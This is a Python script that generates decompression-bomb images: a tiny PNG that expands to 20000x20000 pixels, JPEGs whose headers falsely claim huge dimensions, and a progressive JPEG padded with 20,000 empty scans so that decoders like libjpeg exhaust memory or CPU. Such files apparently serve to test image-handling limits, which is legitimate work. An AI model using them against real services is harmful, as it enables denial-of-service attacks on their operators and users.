#!/usr/bin/python3
"""Writes decompression bombs into FOLDER, made with the standard library
alone:

  bomb-20000.png       a valid PNG of 20000 x 20000 black pixels (1-bit grey), ~50 kB
  bomb-32000.jpg       a small JPEG whose frame header claims 32000 x 32000 pixels
  scans-20000.jpg      a progressive JPEG claiming 4096 x 4096 pixels with 20,000
                       empty scans, ~280 kB (each scan passes over the whole image)
  progressive-8192.jpg a progressive JPEG claiming 8192 x 8192 pixels (libjpeg
                       would hold all its coefficients beside the image)

Usage: make_bombs.py FOLDER SMALL_JPEG SMALL_PROGRESSIVE_JPEG
"""
import os
import struct
import sys
import zlib


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side):
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + (side + 7) // 8)  # filter byte, then the packed bits
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) +
            chunk(b"IEND", b""))


def frame_claiming(jpeg, marker, side):
    frame = jpeg.find(marker)
    if frame < 0:
        sys.exit("the JPEG has no such frame header")
    return jpeg[:frame + 5] + struct.pack(">HH", side, side) + jpeg[frame + 9:]


def with_empty_scans(progressive, count):
    """`count` DC refinement scans without data before the end of the image,
    for each component of the frame (a bogus progression libjpeg only warns of)."""
    frame = progressive.find(b"\xff\xc2")
    components = progressive[frame + 9]
    ids = progressive[frame + 10:frame + 10 + 3 * components:3]
    scan = (b"\xff\xda" + struct.pack(">HB", 6 + 2 * components, components) +
            b"".join(bytes([i, 0]) for i in ids) + b"\x00\x00\x10")
    end = progressive.rfind(b"\xff\xd9")
    return progressive[:end] + scan * count + progressive[end:]


def main():
    folder, small = sys.argv[1], open(sys.argv[2], "rb").read()
    progressive = open(sys.argv[3], "rb").read()
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "bomb-20000.png"), "wb") as f:
        f.write(png_bomb(20000))
    with open(os.path.join(folder, "bomb-32000.jpg"), "wb") as f:
        f.write(frame_claiming(small, b"\xff\xc0", 32000))
    with open(os.path.join(folder, "scans-20000.jpg"), "wb") as f:
        f.write(with_empty_scans(frame_claiming(progressive, b"\xff\xc2", 4096), 20000))
    with open(os.path.join(folder, "progressive-8192.jpg"), "wb") as f:
        f.write(frame_claiming(progressive, b"\xff\xc2", 8192))


if __name__ == "__main__":
    main()
